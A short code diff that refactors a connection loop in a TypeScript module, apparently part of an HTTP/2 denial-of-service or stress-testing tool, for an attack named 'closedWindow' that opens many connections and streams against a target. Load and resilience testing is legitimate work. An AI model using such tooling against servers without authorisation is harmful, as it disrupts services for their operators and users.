@@ -3,7 +3,7 @@ import { connect } from 'node:http2'
 import type { Attack } from './attack.ts'
 
 export const closedWindow: Attack = (target, swarm, { connections, streams, path }) => {
-  for (let at = 0; at < Number(connections); at++) {
+  swarm.openMany(Number(connections), () => {
     const socket = swarm.connect(target.https, 'h2', () => {
       const session = connect('https://localhost', {
         createConnection: () => socket,
@@ -15,5 +15,5 @@ export const closedWindow: Attack = (target, swarm, { connections, streams, path
         stream.on('error', () => {})
       }
     })
-  }
+  })
 }
